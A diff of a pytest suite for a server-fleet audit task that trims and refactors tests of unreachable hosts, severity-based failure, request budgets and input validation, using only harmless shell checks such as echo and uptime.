-    assert [server["reached"] for server in done.report["servers"]] == [True, True, True, False, False]
-    assert done.report["refusal"] is None
-
-
 @pytest.mark.parametrize("of", [[], ["web-01", "web-02"]], ids=["the other workspace", "one of both"])
 def test_what_nobody_has_thought_of_costs_the_answers_of_one_workspace(
-    current: Workspace, elsewhere: Member, monkeypatch: pytest.MonkeyPatch, of: list[str]
+    current: Workspace, monkeypatch: pytest.MonkeyPatch, of: list[str]
 ) -> None:
+    elsewhere = Member("there", SERVER, settings=settings_of({"url": "http://127.0.0.1:9", "token": "alpat-x"}))
+
     def fail(client: Client, references: list[str], whole_rows: bool) -> Any:
         if client.settings == elsewhere.settings:
             raise ZeroDivisionError("out of the blue")
@@ -775,15 +522,6 @@ def test_what_nobody_has_thought_of_leaves_the_ids(current: Workspace, monkeypat
     assert (done.result["changed"], done.result["failed"]) == (True, True)
 
 
-def test_a_run_that_is_over_gets_no_report(current: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
-    def fail(self: Fleet, jobs: list[Job]) -> None:
-        raise RunIsOver
-
-    monkeypatch.setattr(Fleet, "run", fail)
-    with pytest.raises(RunIsOver):
-        audit(current, HELLO)
-
-
 def test_a_list_of_servers_that_may_not_be_read(workspace: Workspace) -> None:
     workspace.fault("status", method="GET", path="servers", status=403, body='{"code": "forbidden"}')
     done = audit(workspace, HELLO, of=[Member("here", workspace.server_ids()["web-01"]), *hosts("web-02")])
@@ -813,8 +551,8 @@ def test_check_mode_writes_nothing(current: Workspace) -> None:
 
 # What it costs
 
-#: What all of sixty checks are content with.
-PRINTED = " ".join(map(str, range(60)))
+#: What all of fifteen checks are content with.
+PRINTED = " ".join(map(str, range(15)))
 
 
 @pytest.fixture
@@ -828,9 +566,9 @@ def idle(running: Callable[[str], Workspace]) -> Workspace:
     return workspace
 
 
-def test_two_hundred_servers_and_sixty_checks(idle: Workspace) -> None:
+def test_two_hundred_servers_and_fifteen_checks(idle: Workspace) -> None:
     fleet = hosts(*(f"idle-{number:03}" for number in range(200)))
-    checks = [{"name": f"check-{number}", "line": f"echo {number}", "contains": str(number)} for number in range(60)]
+    checks = [{"name": f"check-{number}", "line": f"echo {number}", "contains": str(number)} for number in range(15)]
     done = audit(idle, *checks, of=fleet, reuse_within="1h")
     counters = idle.counters()
     assert counters["writes"] == 200
@@ -839,7 +577,7 @@ def test_two_hundred_servers_and_sixty_checks(idle: Workspace) -> None:
     idle.reset_counters()
     again = audit(idle, *checks, of=fleet, reuse_within="1h")
     assert set(again.outcomes.values()) == {"passed"}
-    assert (idle.counters()["writes"], again.audited.changed, again.summary["reused"]) == (0, False, 12_000)
+    assert (idle.counters()["writes"], again.audited.changed, again.summary["reused"]) == (0, False, 3_000)
     # The history is read once, and who the token is takes two.
     assert idle.counters()["requests"] <= 2 + 400 / 100 + 1 + 2
     assert done.summary["requests"] <= 220
@@ -861,33 +599,18 @@ def test_a_budget_is_spent_on_whole_servers(idle: Workspace, servers: int, whole
         assert "budget: 200 servers take about 200 commands" in done.warnings[0]
 
 
-def test_a_few_hosts_of_a_large_workspace_are_asked_for_singly(idle: Workspace) -> None:
-    ids = idle.server_ids()
-    audit(idle, HELLO, of=[Member("one", ids["idle-007"])], check_mode=True)
-    assert paths(idle)[-1].endswith(f"/{ids['idle-007']}/")
-    before = idle.requests_made()
-    audit(idle, HELLO, of=hosts("idle-009"), check_mode=True)
-    assert idle.requests_made() - before == 1
-
-
 # What the task returns
 
 
 def test_findings_fail_the_task_from_a_severity_on(workspace: Workspace) -> None:
     workspace.add_servers("off-01", connected=False)
-    checks = [
-        {"name": "low", "line": "echo 1; exit 1", "severity": "low"},
-        {"name": "high", "line": "echo 1; exit 2", "severity": "high"},
-    ]
+    checks = [{"name": name, "line": "echo 1; exit 1", "severity": name} for name in ("low", "high")]
     done = audit(workspace, *checks, of=hosts("web-01", "off-01"))
     result = done.result
     assert (result["failed"], result["failing"]) == (True, 1)
     assert result["msg"].startswith("1 finding of severity high or worse: web-01: high (high): ")
-    assert [(f["host"], f["check"], f["severity"], f["fails"]) for f in result["findings"]] == [
-        ("web-01", "high", "high", True),
-        ("web-01", "low", "low", False),
-    ]
-    assert not any("output" in finding for finding in result["findings"])
+    found = [("high", True, True), ("low", False, True)]
+    assert [(one["check"], one["fails"], "output" not in one) for one in result["findings"]] == found
     # The server that is offline is as bad as a question without an answer.
     for fail_on, failing in (("never", 0), ("critical", 0), ("high", 1), ("medium", 2), ("info", 3)):
         report = {**done.report, "fail_on": None if fail_on == "never" else fail_on, "min_coverage": 0}
@@ -897,25 +620,13 @@ def test_findings_fail_the_task_from_a_severity_on(workspace: Workspace) -> None
         assert again["verdict"] == ("fail" if failing else "pass")
 
 
-def test_what_a_host_leaves_open_is_named_once(workspace: Workspace) -> None:
-    workspace.add_servers("off-01", connected=False)
-    checks = [{"name": f"check-{number}", "line": f"echo {number}"} for number in range(20)]
-    result = audit(workspace, *checks, of=hosts("off-01"), fail_on="medium").result
-    assert result["msg"].count("off-01") == 1
-    assert "1 server not reached: off-01: The server is offline" in result["msg"]
-
-
 # Bad input
 
 
 @pytest.mark.parametrize(
     ("given", "message"),
     [
-        ({"checks": []}, "checks: there is no check."),
-        (
-            {"checks": [{"name": "a", "lien": "x"}]},
-            "checks, check 1 (a): lien: a check has no such key. Did you mean line?",
-        ),
+        ({"checks": [{"name": "a", "lien": "x"}]}, "checks, check 1 (a): lien: a check has no such key. Did you mean"),
         ({"waivers": [waiver(until="soon")]}, "waivers, waiver 1: until: 'soon' is not a date."),
         ({"waivers": [waiver(groups=[])]}, "waivers, waiver 1: it is about no host."),
         ({"waivers": [waiver(reason=" ")]}, "waivers, waiver 1: reason: it is empty."),
@@ -931,14 +642,12 @@ def test_what_a_host_leaves_open_is_named_once(workspace: Workspace) -> None:
         ({"wait_timeout": "soon"}, "wait_timeout: 'soon' is not a duration."),
         ({"max_concurrency": "0"}, "max_concurrency: 0 is too small."),
         ({"output_limit": -1}, "output_limit: it is negative."),
-        ({"min_coverage": -0.1}, "min_coverage: -0.1 is not a percentage."),
         (
             {"min_coverage": 101.0},
-            "min_coverage: 101 is not a percentage. Give a number from 0, for no minimum, to 100.",
+            "min_coverage: 101 is not a percentage. Give a number from 0, for no minimum",
         ),
         ({"min_coverage": float("nan")}, "min_coverage: nan is not a percentage."),
         ({"of": []}, "hosts: there is no host to audit."),
-        ({"url": "ftp://x"}, "url: "),
     ],
 )
 def test_bad_input_is_refused_before_any_request(current: Workspace, given: Row, message: str) -> None:
@@ -977,26 +686,22 @@ def test_what_fits_is_answered_by_lines_as_by_what_is_carried(running: Callable[
     assert all("characters, and 512 fit." in message for message in others)
 
 
-@pytest.mark.parametrize("dialect", ["2024", "published"])
 @pytest.mark.parametrize("tells", ["servers", "commands", "commands that answer"])
 def test_that_no_variables_come_is_learnt_before_anything_is_submitted(
-    running: Callable[[str], Workspace], dialect: str, tells: str
+    running: Callable[[str], Workspace], tells: str
 ) -> None:
-    old = running(dialect)
+    old = running("published" if tells == "commands" else "2024")
     old.reset()
     if tells != "servers":
         for name in AGENTS:
             old.change_server(name, owner=None)
         old.add_commands([{"server": "web-03", "line": "uptime", "status": "success", "result": "up"}])
     before = old.requests_made()
-    done = audit(
-        old, HELLO, of=hosts("web-01", "web-02"), reuse_within="1h" if tells == "commands that answer" else None
-    )
+    window = "1h" if tells == "commands that answer" else None
+    done = audit(old, HELLO, of=hosts("web-01", "web-02"), reuse_within=window)
     assert set(done.outcomes.values()) == {"passed"}
-    assert Counter(made["line"] for made in old.commands()) == {
-        "export LC_ALL=C; echo hello": 2,
-        **({} if tells == "servers" else {"uptime": 1}),
-    }
+    made = Counter(made["line"] for made in old.commands() if made["line"] != "uptime")
+    assert made == {"export LC_ALL=C; echo hello": 2}
     # The list of servers, the list of commands, two commands, and the looks at them.
     assert old.requests_made() - before <= 4 + 4
 
